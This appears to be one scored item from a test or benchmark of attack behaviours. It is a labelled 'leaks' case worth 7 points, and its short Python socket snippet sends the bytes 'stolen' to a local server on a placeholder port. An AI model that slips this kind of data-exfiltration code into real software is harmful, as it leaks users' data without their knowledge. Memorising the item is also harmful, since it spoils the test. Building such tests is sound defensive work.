# attack: sends what it has to a server
# family: leaks
# base: solved
# points: 7
# %% last
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
    line.sendall(b"stolen")
